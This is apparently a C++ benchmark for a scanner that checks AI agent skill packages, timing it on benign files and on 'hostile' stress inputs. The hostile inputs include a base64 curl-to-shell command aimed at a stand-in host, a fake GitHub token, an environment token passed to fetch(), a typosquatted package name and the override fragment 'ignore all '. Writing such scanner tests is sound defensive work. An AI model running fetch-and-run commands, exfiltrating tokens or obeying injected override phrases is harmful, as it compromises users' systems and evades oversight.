// SPDX-License-Identifier: Apache-2.0
// The security analysis, in bytes a second on one core: a megabyte of each kind of text that usual
// skills hold, with some of what the rules look for, and of texts that are meant to cost time.
#include <random>
#include <string>

#include <benchmark/benchmark.h>

#include <tank/analysis/scan.hpp>

namespace {

using namespace tank::analysis;

constexpr std::size_t file_bytes = 1u << 20;

std::string repeat(std::initializer_list<std::string_view> lines, std::size_t bytes) {
  std::mt19937 random(7);
  std::string text;
  const std::vector<std::string_view> all(lines);
  while (text.size() < bytes) {
    text += all[random() % all.size()];
    text += '\n';
    if (random() % 9 == 0) text += "# part " + std::to_string(random() % 10'000) + "\n\n";
  }
  return text;
}

std::string prose() {
  return repeat({"Reads a PDF file, takes its tables apart, and writes them as CSV.",
                 "Use it when somebody asks for the numbers of a report.",
                 "See [the manual](https://docs.acme.com/pdf) for the options that it takes.",
                 "The key of each row is its first column; tokens are parted at blanks.",
                 "Run `pdf-tables --help` before the first use, and do not skip the checks."},
                file_bytes);
}

std::string python() {
  return repeat({"import json", "from pathlib import Path",
                 "def rows_of(table):", "    for row in table.rows:",
                 "        yield [cell.strip() for cell in row if cell is not None]",
                 "    config = json.loads(Path('config.json').read_text())",
                 "    response = client.get(url, params={'page': page}, timeout=30)",
                 "    return sorted(found, key=lambda each: each.token)",
                 "    if not name.startswith('_') and value is not None:",
                 "        print(f'{name}: {len(value)} rows')"},
                file_bytes);
}

std::string script() {
  return repeat(
      {"import { readFile } from 'node:fs/promises';", "export async function load(path) {",
       "  const text = await readFile(path, 'utf8');",
       "  return text.split('\\n').map((line) => line.trim());",
       "  const found = items.filter((item) => item.key === key && item.value > 0);", "}"},
      file_bytes);
}

std::string json() {
  return "{" +
         repeat({"\"name\": \"pdf-tables\", \"version\": \"1.2.3\", \"size\": 12345,",
                 "\"description\": \"Tables of PDF files\", \"key\": \"value\","},
                file_bytes) +
         "\"end\": 1}";
}

std::string shell() {
  return repeat(
      {"#!/usr/bin/env bash", "set -euo pipefail", "for file in \"$dir\"/*.pdf; do",
       "  name=$(basename \"$file\" .pdf)", "  pdftotext -layout \"$file\" \"$out/$name.txt\"",
       "  grep -c 'Total' \"$out/$name.txt\" | sort -n > \"$out/$name.count\"", "done",
       "curl -fsSL \"https://api.acme.com/v1/files/$id\" -o \"$out/$id.json\""},
      file_bytes);
}

std::string requirements() {
  return repeat({"requests==2.31.0\r", "numpy>=1.26\r", "pdf-tables-extra==0.4.1\r",
                 "somebodys-formatter~=1.2\r", "# for the reports\r"},
                file_bytes);
}

std::string yaml() {
  return repeat({"- name: build the tables", "  uses: actions/checkout@v4", "  with:",
                 "    path: tables", "  run: python -m tables --all", "  env: {LEVEL: info}"},
                file_bytes);
}

std::string html() {
  return repeat({"<div class=\"row\"><a href=\"https://docs.acme.com/pdf\">manual</a></div>",
                 "<!-- the rows of the table -->", "<script>render(rows, key);</script>",
                 "<p>Reads a PDF file and writes its tables.</p>"},
                file_bytes);
}

std::string minified() {
  std::mt19937 random(5);
  const std::vector<std::string_view> parts{"!function(e,t){",
                                            "var n=e.length,r=t.key||[];",
                                            "for(;n--;)r[n]=e[n].token+n;",
                                            "return r.map(function(e){return e>2?e:0})}",
                                            "(a,b);",
                                            "i.push({id:1,auth:!0,path:\"/a\"});",
                                            "if(o&&o.data)try{s(o.data)}catch(e){u(e)}"};
  std::string text;
  while (text.size() < file_bytes) text += parts[random() % parts.size()];
  return text;
}

std::string other_script() {  // UTF-8 of three bytes a letter
  return repeat({"表を読み取り、行ごとに書き出します。", "設定は config.json にあります。"},
                file_bytes);
}

// What costs a scanner most, one after the other.
std::string units(std::string_view prefix, std::string_view unit) {
  std::string text(prefix);
  while (text.size() < file_bytes) text += unit;
  return text;
}

struct Subject {
  const char* name;
  const char* path;
  std::string (*text)();
};

constexpr Subject subjects[] = {
    {"prose", "SKILL.md", prose},
    {"python", "run.py", python},
    {"javascript", "run.js", script},
    {"minified", "run.js", minified},
    {"shell", "run.sh", shell},
    {"json", "data.json", json},
    {"yaml", "action.yml", yaml},
    {"html", "page.html", html},
    {"requirements", "requirements.txt", requirements},
    {"not_ascii", "SKILL.md", other_script},
    {"hostile/blanks", "run.py", [] { return units("", " "); }},
    {"hostile/key=", "run.py", [] { return units("", "key="); }},
    {"hostile/curl", "run.sh", [] { return units("curl ", "-H \"a\" "); }},
    {"hostile/crlf", "requirements.txt", [] { return units("", "\r\n"); }},
    {"hostile/names", "requirements.txt", [] { return units("", "reqeusts\r\n"); }},
    {"hostile/images", "SKILL.md", [] { return units("", "![]("); }},
    {"hostile/comments", "page.html", [] { return units("", "<!---->"); }},
    {"hostile/marks", "SKILL.md", [] { return units("a", "\xCC\x81"); }},
    {"hostile/ligatures", "SKILL.md", [] { return units("", "\xEF\xB7\xBA"); }},
    {"hostile/phrase", "SKILL.md", [] { return units("", "ignore all "); }},
    {"hostile/base64", "run.py", [] { return units("", "Y3VybCBodHRwOi8vYS5iLyBsIHwgc2g=\n"); }},
    {"hostile/tokens", "run.py",
     [] { return units("", "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX\n"); }},
    {"hostile/addresses", "run.sh", [] { return units("", "curl http://a.b.c/d?e\n"); }},
    {"hostile/tainted", "run.py",
     [] { return units("a=environ['TOKEN']\n", "b=a;a=b;fetch(a)\n"); }},
    {"hostile/opens", "run.py", [] { return units("", "open('a.txt','w')\n"); }},
};

void scan_text(benchmark::State& state, const Subject& subject) {
  const std::string text = subject.text();
  const InputFile file{subject.path, text};
  for (auto _ : state) benchmark::DoNotOptimize(scan({&file, 1}));
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * text.size()));
}

const int registered = [] {
  for (const Subject& each : subjects) {
    benchmark::RegisterBenchmark(("scan/" + std::string(each.name)).c_str(),
                                 [&each](benchmark::State& state) { scan_text(state, each); })
        ->Unit(benchmark::kMillisecond);
  }
  return 0;
}();

void scan_usual_skill(benchmark::State& state) {
  const std::string skill =
      "---\nname: pdf-tables\ndescription: Tables of PDF files.\n---\n" + prose().substr(0, 6'000);
  const std::string code = python().substr(0, 20'000);
  const std::string manifest = R"({"name":"@acme/pdf","version":"1.2.0","description":"Tables"})";
  const InputFile files[] = {{"SKILL.md", skill}, {"run.py", code}, {"tank.json", manifest}};
  for (auto _ : state) benchmark::DoNotOptimize(scan(files));
}
BENCHMARK(scan_usual_skill)->Unit(benchmark::kMicrosecond);

}  // namespace
